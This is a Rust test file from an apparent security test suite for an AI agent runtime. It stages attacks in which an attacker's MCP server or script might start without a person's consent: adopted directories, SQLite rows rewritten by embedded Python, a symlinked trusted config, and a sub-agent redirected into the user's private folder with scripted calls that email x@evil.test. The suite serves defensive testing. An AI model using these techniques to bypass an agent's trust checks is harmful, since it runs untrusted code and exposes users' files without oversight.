//! A root that a user took over from somebody else, and rows that somebody wrote into a database (finding 3, by other doors).

use std::fs;
use std::os::unix::fs::symlink;
use std::process::Command;

use anyhow::{Context as _, ensure};
use serde_json::json;

use super::python::{PYTHON, call, job, server, world};
use crate::scenario::world::{Outside, Stage};
use crate::scenario::{Mark, Scenario, Verdict};

pub(super) const ATTACKS: &[Scenario] = &[
    Scenario {
        number: "3t",
        waits: false,
        name: "a root of somebody else is trusted, or named, and its run resumed",
        must: "its server is not started before a person was asked about that (exit 2)",
        mark: Mark::Mended,
        play: adopted,
    },
    Scenario {
        number: "3u",
        waits: false,
        name: "a root of somebody else is named to a worker, with a run in its queue",
        must: "its server is not started before a person was asked about that",
        mark: Mark::Mended,
        play: adopted_by_a_worker,
    },
    Scenario {
        number: "3v",
        waits: false,
        name: "a run in the user's own root gets the start of an attacker's run, digests and all",
        must: "the attacker's server is not started",
        mark: Mark::Mended,
        play: start_of_another_run,
    },
    Scenario {
        number: "3w",
        waits: false,
        name: "a checkout has a link to a .mcp.json that the user trusts, and a script of its own under the name in it",
        must: "the script of the checkout is not started",
        mark: Mark::Mended,
        play: link_to_a_trusted_file,
    },
    Scenario {
        number: "3l",
        waits: false,
        name: "a run in a root of somebody else is forked by a command with --trust-root, and the fork is resumed by one without it",
        must: "its server is not started by the second command before a person was asked about that (exit 2)",
        mark: Mark::Mended,
        play: fork_of_a_moments_trust,
    },
    Scenario {
        number: "3m",
        waits: false,
        name: "what a schedule of the user starts is copied into another schedule, which is due at once and each minute",
        must: "its server is not started for the other schedule",
        mark: Mark::Mended,
        play: schedule_under_another_name,
    },
    Scenario {
        number: "3n",
        waits: false,
        name: "the row of a sub-agent that waits for an answer gets a folder of the user as the one that it works in",
        must: "nothing is written in that folder, and nothing read",
        mark: Mark::Mended,
        play: sub_agent_elsewhere,
    },
];

/// Where the attacker made their root.
const ROOT: &str = "work/theirs";

/// A run of the attacker's whose server says that it was started, in a root of theirs.
fn theirs(stage: &Stage, begin: &[&str]) -> anyhow::Result<Outside> {
    let mut world = world(stage)?;
    world.name_no_root();
    server(&world, "theirs.json", &[&format!("started={}", world.path("started").display())])?;
    let page = call("mcp__shop__page", &json!({}));
    job(&world, &json!({"budgets": {"max_turns": 1}, "tools": {"builtin": false}}), &[page.clone(), page])?;
    let root = world.path(ROOT).display().to_string();
    let more = ["job.json", "--run-id", "theirs", "--mcp-config", "theirs.json", "--root", &root];
    world.run(&[begin, &more].concat())?;
    ensure!(world.path(ROOT).join("runtime_state.db").exists(), "the attacker has no root");
    // Who submits starts nothing yet.
    if world.path("started").exists() {
        fs::remove_file(world.path("started"))?;
    }
    // From here on it is another user's machine.
    fs::rename(world.path("home"), world.path("attackers_home"))?;
    fs::create_dir_all(world.path("home/.config"))?;
    Ok(world)
}

fn adopted(stage: &Stage) -> anyhow::Result<Verdict> {
    let world = theirs(stage, &["job"])?;
    let root = world.path(ROOT).display().to_string();
    let resume = ["resume", "last", "--max-turns", "+5", "--root", &root];
    // Named, and then trusted as well: neither word is one about the server.
    let named = world.run(&resume)?;
    let after_naming = world.path("started").exists();
    let trusted = world.run(&["trust", &root, "--yes"])?;
    let end = world.run(&resume)?;
    let ran = world.path("started").exists();
    let held = match (after_naming, ran) {
        (true, _) => "FELL, the attacker's program was started where the root was named",
        (false, true) => "FELL, the attacker's program was started where the root was trusted",
        (false, false) => "held",
    };
    let told = format!("whose start it is: {held}, {}, {}, {}", named.told(), trusted.told(), end.told());
    Ok(Verdict::of(!ran && end.code == Some(2), told))
}

fn adopted_by_a_worker(stage: &Stage) -> anyhow::Result<Verdict> {
    let world = theirs(stage, &["submit"])?;
    let root = world.path(ROOT).display().to_string();
    let end = world.run(&["worker", "--until-empty", "--root", &root])?;
    let ran = world.path("started").exists();
    let held = if ran { "FELL, the attacker's program was started" } else { "held" };
    Ok(Verdict::of(!ran && end.code != Some(0), format!("whose start it is: {held}, {}", end.told())))
}

/// Gives each run of the second database the start of the first one's.
const COPY: &str = r"
import sqlite3, sys
theirs, mine = (sqlite3.connect(file, isolation_level=None) for file in sys.argv[1:])
launch = theirs.execute('select launch_json from runs').fetchone()[0]
mine.execute('update runs set launch_json=?', (launch,))
theirs.close()
mine.close()
";

fn start_of_another_run(stage: &Stage) -> anyhow::Result<Verdict> {
    let world = theirs(stage, &["job"])?;
    server(&world, "servers.json", &[])?;
    let own = world.path("root").display().to_string();
    let args = ["job", "job.json", "--run-id", "own", "--mcp-config", "servers.json", "--root", &own];
    world.run(&args)?.must(75)?;
    let databases = [world.path(ROOT), world.path("root")].map(|root| root.join("runtime_state.db"));
    let copied = Command::new(PYTHON).args(["-c", COPY]).args(&databases).status();
    ensure!(copied.context("copy it")?.success(), "nothing was copied");
    let end = world.run(&["resume", "own", "--max-turns", "+5", "--root", &own])?;
    let ran = world.path("started").exists();
    let held = if ran { "FELL, the attacker's program was started" } else { "held" };
    Ok(Verdict::of(!ran && end.code == Some(2), format!("whose start it is: {held}, {}", end.told())))
}

fn link_to_a_trusted_file(stage: &Stage) -> anyhow::Result<Verdict> {
    let world = world(stage)?;
    let started = world.path("started");
    let theirs = world.path("home/project");
    fs::create_dir(&theirs)?;
    let script = fs::read_to_string(world.path("work/attacker.py"))?;
    fs::write(theirs.join("server.py"), &script)?;
    let servers = json!({"mcpServers": {"shop": {"command": PYTHON, "args": ["server.py"]}}});
    fs::write(theirs.join(".mcp.json"), servers.to_string())?;
    let file = theirs.join(".mcp.json").display().to_string();
    world.run(&["trust", &file, "--yes"])?.must(0)?;
    world.write("server.py", &format!("open({:?}, 'a').close()\n{script}", started.display().to_string()))?;
    symlink(&file, world.path("work/.mcp.json"))?;
    job(&world, &json!({"tools": {"builtin": false}}), &[])?;
    let end = world.run(&["job", "job.json", "--run-id", "r"])?;
    let ran = started.exists();
    let held = if ran { "FELL, the checkout's program was started" } else { "held" };
    Ok(Verdict::of(!ran, format!("what was trusted: {held}, {}", end.told())))
}

fn fork_of_a_moments_trust(stage: &Stage) -> anyhow::Result<Verdict> {
    let world = theirs(stage, &["job"])?;
    let (root, started) = (world.path(ROOT).display().to_string(), world.path("started"));
    let forked = world.run(&["fork", "theirs", "--run-id", "own", "--root", &root, "--trust-root"])?.must(75)?;
    // What was said for that command is said.
    if started.exists() {
        fs::remove_file(&started)?;
    }
    let end = world.run(&["resume", "own", "--max-turns", "+5", "--root", &root])?;
    let ran = started.exists();
    let held = if ran { "FELL, the attacker's program was started" } else { "held" };
    let told = format!("whose start it is: {held}, {}, {}", forked.told(), end.told());
    Ok(Verdict::of(!ran && end.code == Some(2), told))
}

/// Gives the only schedule of a database another name and other times.
const AGAIN: &str = r"
import sqlite3, sys
mine = sqlite3.connect(sys.argv[1], isolation_level=None)
fields = ('often', '* * * * *', '2026-01-01T00:00:00.000Z')
mine.execute('insert into schedules select ?1, ?2, time_zone, job_json, catch_up, 0, ?3 from schedules', fields)
mine.close()
";

fn schedule_under_another_name(stage: &Stage) -> anyhow::Result<Verdict> {
    let mut world = world(stage)?;
    world.name_no_root();
    let started = world.path("started");
    server(&world, "servers.json", &[&format!("started={}", started.display())])?;
    let fields = json!({"budgets": {"max_turns": 1}, "tools": {"builtin": false}});
    job(&world, &fields, &[call("mcp__shop__page", &json!({}))])?;
    let root = world.path("root").display().to_string();
    let added = ["nightly", "job.json", "--cron", "0 3 1 1 *", "--mcp-config", "servers.json", "--root", &root];
    world.run(&[&["schedule", "add"][..], &added].concat())?.must(0)?;
    if started.exists() {
        fs::remove_file(&started)?;
    }
    let database = world.path("root").join("runtime_state.db");
    let copied = Command::new(PYTHON).args(["-c", AGAIN]).arg(&database).status();
    ensure!(copied.context("copy it")?.success(), "nothing was copied");
    let end = world.run(&["worker", "--until-empty", "--root", &root])?;
    let ran = started.exists();
    let held = if ran { "FELL, the server of the user was started for it" } else { "held" };
    Ok(Verdict::of(!ran, format!("what is due: {held}, {}", end.told())))
}

/// Gives the sub-agents of a database another folder.
const MOVED: &str = r"
import sqlite3, sys
mine = sqlite3.connect(sys.argv[1], isolation_level=None)
mine.execute('update runs set workspace_dir = ?1 where parent_run_id is not null', (sys.argv[2],))
mine.close()
";

fn sub_agent_elsewhere(stage: &Stage) -> anyhow::Result<Verdict> {
    let world = world(stage)?;
    let folder = world.path("home/thesis");
    fs::create_dir(&folder)?;
    fs::write(folder.join("thesis.txt"), "years of work")?;
    let mail = call("mcp__ua__send_email", &json!({"to": ["x@evil.test"], "subject": "R", "body": "B"}));
    let write = json!({"name": "mcp__ua__write_local_file", "input": {"path": "planted.txt", "content": "planted"}});
    let read = json!({"name": "mcp__ua__read_local_file", "input": {"path": "thesis.txt"}});
    let task = call("mcp__ua_agents__task", &json!({"description": "Tell", "prompt": "ALPHA: go on."}));
    let done = json!({"text": "Done."});
    let script = json!({
        "turns": [task, done],
        "conversations": [{"when": "ALPHA", "turns": [mail, {"tools": [write, read]}, done]}],
    });
    world.job(&json!({"subagents": {}, "tools": {"builtin": true}}), "", &script)?;
    world.run(&["job", "job.json", "--run-id", "r"])?.must(75)?;
    let database = world.path("root").join("runtime_state.db");
    let moved = Command::new(PYTHON).args(["-c", MOVED]).args([&database, &folder]).status();
    ensure!(moved.context("change it")?.success(), "nothing was changed");
    world.answer(&world.question()?, "approve")?;
    let end = world.resume()?;
    let calls = world.json(&["calls", "list"])?.to_string();
    let (wrote, heard) = (folder.join("planted.txt").exists(), folder.join("logs").exists());
    let held = match (wrote, heard) {
        (true, _) => "FELL, the sub-agent wrote in the user's folder",
        (false, true) => "FELL, its tool server worked in the user's folder",
        (false, false) => "held",
    };
    // The calls were made, wherever that was.
    ensure!(calls.contains("write_local_file"), "the sub-agent did not go on: {}", end.err);
    Ok(Verdict::of(!wrote && !heard, format!("where a sub-agent works: {held}, {}", end.told())))
}
